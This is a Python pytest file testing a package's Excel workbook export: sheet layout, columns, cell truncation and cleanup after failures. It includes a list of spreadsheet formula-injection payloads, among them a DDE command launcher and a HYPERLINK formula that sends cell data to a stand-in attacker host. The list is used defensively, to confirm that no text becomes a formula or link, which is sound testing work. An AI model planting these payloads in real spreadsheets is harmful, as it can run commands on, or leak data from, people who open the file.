"""The workbook: three sheets that Excel opens, in which every text is only text."""

import builtins
import re
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree as ET

import pytest

from communique.errors import MissingExtraError, OutputError
from communique.schemas import Actor, DocumentInfo, Evidence, Meeting, Participant, Record, VerifiedSummary
from communique.schemas.rows import document_cells, layout_of
from communique.sinks import FanOut, SinkOptions, sink_for, sink_named, xlsx

pytest.importorskip("xlsxwriter", reason="the extra xlsx is not installed")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "{=SUM(A1:A2)}",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "http://evil.example/",
    "mailto:x@evil.example",
    "internal:Sheet2!A1",
    "external:c:\\x.xlsx",
    "<r><t>x</t></r>",
    "<r></c></row></sheetData></r>",
    "</t></is></c>",
    "1e5",
    "007",
    "_x0041_",
    "a\0b\x1b[31m",
    "￾￿",
    " space ",
    "two\nlines",
]


def write(folder, summaries, **options):
    path = folder / "out.xlsx"
    with FanOut([(sink_named("xlsx"), path)], SinkOptions(**options)) as out:
        for summary in summaries:
            out.write(summary)
    return path


def sheets(path):
    """Return the XML of each sheet by its name."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        names = [s.get("name") for s in ET.fromstring(archive.read("xl/workbook.xml")).iter(f"{MAIN}sheet")]
        return {
            name: ET.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
            for number, name in enumerate(names, 1)
        }


def table(sheet):
    """Return the rows of a sheet as dicts, by the columns of the first."""
    found = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = {}
        for cell in row:
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
            kind = cell.get("t", "n")
            value = unescaped(text) if kind == "inlineStr" else float(cell.findtext(f"{MAIN}v"))
            cells[re.sub(r"\d", "", cell.get("r"))] = bool(value) if kind == "b" else value
        found.append(cells)
    heads = found[0]
    return [{head: row.get(letter) for letter, head in heads.items()} for row in found[1:]]


def unescaped(text):
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def test_there_are_three_sheets_with_a_frozen_header_and_filters(tmp_path, summaries):
    path = write(tmp_path, summaries)

    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]
    assert sink_for(path).name == "xlsx"
    found = sheets(path)
    assert list(found) == ["Records", "Evidence", "Actors"]
    for sheet in found.values():
        (pane,) = sheet.iter(f"{MAIN}pane")
        assert (pane.get("ySplit"), pane.get("state")) == ("1", "frozen")
        rows = len(list(sheet.iter(f"{MAIN}row")))
        assert sheet.find(f"{MAIN}autoFilter").get("ref").endswith(str(rows))


def test_a_record_is_a_row_with_the_columns_of_the_csv(tmp_path, summaries):
    rows = table(sheets(write(tmp_path, summaries))["Records"])

    records = [(key, s, r) for s in summaries for key, group in s.records.items() for r in group]
    assert len(rows) == len(records)
    for row, (key, summary, record) in zip(rows, records, strict=True):
        layout = layout_of(type(record))
        expected = dict(zip(layout.columns, layout.row(record, document_cells(summary.document, key)), strict=True))
        assert {name: value for name, value in row.items() if value is not None} == {
            name: value for name, value in expected.items() if value not in (None, "")
        }


def test_evidence_and_actors_have_a_row_each(tmp_path, summaries):
    found = sheets(write(tmp_path, summaries))

    evidence, actors = table(found["Evidence"]), table(found["Actors"])
    assert [(r["sentence"], r["answer"], r["page"]) for r in evidence if r["id"] in ("cmq-a1", "cmq-m1")] == [
        (2, None, 1),
        (3, None, 1),
        (4, None, None),
        (5, "denial", None),
    ]
    assert [(r["role"], r["name"], r["title"]) for r in actors if r["id"] == "cmq-m1"] == [
        ("participants", "Ilse Varga", "Trade minister"),
        ("participants", "Per Holm", "envoy"),
        ("source", "The Amsel Post", None),
    ]
    assert {r["record_type"] for r in actors} == {"meetings", "allegations", "sanctions_concerns"}


def hostile(text):
    meeting = Meeting(
        id=text,
        status="held",
        participants=(Participant(name=text, role=text),),
        outcome=text,
        when=text,
        evidence=(Evidence(sentence=1, exact=text),),
    )
    return VerifiedSummary(
        document=DocumentInfo(id=text, sha256="0", title=text, source=text), records={text: (meeting,)}
    )


def test_no_text_is_ever_a_formula_a_link_or_a_number(tmp_path, payloads):
    texts = [*HOSTILE, *payloads.PAYLOADS]
    path = write(tmp_path, map(hostile, texts), title="<r>=1</r>")

    found = sheets(path)
    for sheet in found.values():
        assert not list(sheet.iter(f"{MAIN}f"))
        assert not list(sheet.iter(f"{MAIN}hyperlink"))
    shown = ["\u2060" + t if t.startswith("<r>") else t for t in texts]
    rows = table(found["Records"])
    for column in ("document_id", "document_title", "source", "record_type", "id", "participants", "outcome", "when"):
        assert [r[column] for r in rows] == shown, column
    assert [r["text"] for r in table(found["Evidence"])] == shown
    assert [r["title"] for r in table(found["Actors"])] == shown
    with zipfile.ZipFile(path) as archive:
        assert not [n for n in archive.namelist() if "external" in n.lower() or ("rels" in n and "sheets" in n)]


def test_openpyxl_reads_it(tmp_path, summaries):
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed")
    path = write(tmp_path, [*summaries, *map(hostile, HOSTILE)])

    book = openpyxl.load_workbook(path)

    assert book.sheetnames == ["Records", "Evidence", "Actors"]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row} <= {"s", "n", "b"}
        assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_it_and_finds_no_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl", reason="openpyxl is not installed")
    path = write(tmp_path, map(hostile, HOSTILE))
    (tmp_path / "out").mkdir()

    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run(
        ["soffice", profile, "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )

    book = openpyxl.load_workbook(tmp_path / "out" / "out.xlsx")
    assert book["Records"].max_row == len(HOSTILE) + 1
    cells = [c for sheet in book for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s", "n"}
    assert not any(c.hyperlink for c in cells)


class Bid(Record):
    """Somebody offers a price."""

    amount: int
    firm: bool = True
    share: float = 0.5
    date: str = ""
    record_type: str = ""
    bidder: Actor | None = None


def bid(**said):
    return VerifiedSummary(document=DocumentInfo(id="x", sha256="0"), records={"bids": (Bid(**said),)})


def test_a_users_record_has_its_columns_beside_ours(tmp_path, summaries):
    said = bid(amount=-5, date="soon", record_type="sealed", bidder=Actor(name="Orbis Metals"))

    found = sheets(write(tmp_path, [*summaries, said, bid(amount=10**30, firm=False, share=float("inf"))]))

    *_, one, two = table(found["Records"])
    assert (one["amount"], one["firm"], one["share"], one["date"], one["date_2"], one["record_type"]) == (
        -5,
        True,
        0.5,
        None,
        "soon",
        "bids",
    )
    assert (one["record_type_2"], one["bidder"]) == ("sealed", "Orbis Metals")
    assert (two["amount"], two["firm"], two["share"]) == (str(10**30), False, "inf")
    assert table(found["Actors"])[-1]["role"] == "bidder"


def test_a_type_that_is_not_installed_keeps_its_fields(tmp_path):
    data = bid(amount=5).model_dump(mode="json")

    (row,) = table(sheets(write(tmp_path, [VerifiedSummary.from_json(data)]))["Records"])

    assert '"amount":5' in row["fields"]


def test_no_results_are_a_workbook_with_headers(tmp_path):
    found = sheets(write(tmp_path, []))

    assert [len(list(s.iter(f"{MAIN}row"))) for s in found.values()] == [1, 1, 1]


@pytest.mark.parametrize("letter", ["x", "林", "😀"])
def test_a_text_that_is_too_long_for_a_cell_is_cut_with_a_note(tmp_path, letter):
    text = letter * 40_000

    (row,) = table(sheets(write(tmp_path, [hostile(text)]))["Evidence"])

    assert row["text"].endswith(" [cut: 40,000 characters]")
    assert row["text"].startswith(letter * 1000)
    assert 32_700 < len(row["text"].encode("utf-16-le")) / 2 <= 32_767
    assert xlsx.cell_text("x" * 32_767) == "x" * 32_767


def test_a_full_sheet_says_what_to_do(tmp_path, summaries, monkeypatch):
    monkeypatch.setattr(xlsx, "ROWS", 5)

    with pytest.raises(OutputError, match=r"the sheet \w+ is full: Excel holds 4 rows in one \(write --to sqlite"):
        write(tmp_path, summaries)

    assert list(tmp_path.iterdir()) == []


def test_a_failure_leaves_nothing(tmp_path, summaries):
    def failing():
        yield summaries[0]
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        write(tmp_path, failing())

    assert list(tmp_path.iterdir()) == []


def test_without_the_extra_one_line_names_it(tmp_path, monkeypatch):
    def missing(name, *rest, given=builtins.__import__, **more):
        if name == "xlsxwriter":
            raise ModuleNotFoundError(name=name)
        return given(name, *rest, **more)

    monkeypatch.setattr(builtins, "__import__", missing)

    with pytest.raises(MissingExtraError, match=r"needs the extra 'xlsx' \(pip install 'communique\[xlsx\]'\)"):
        write(tmp_path, [])
    assert list(tmp_path.iterdir()) == []
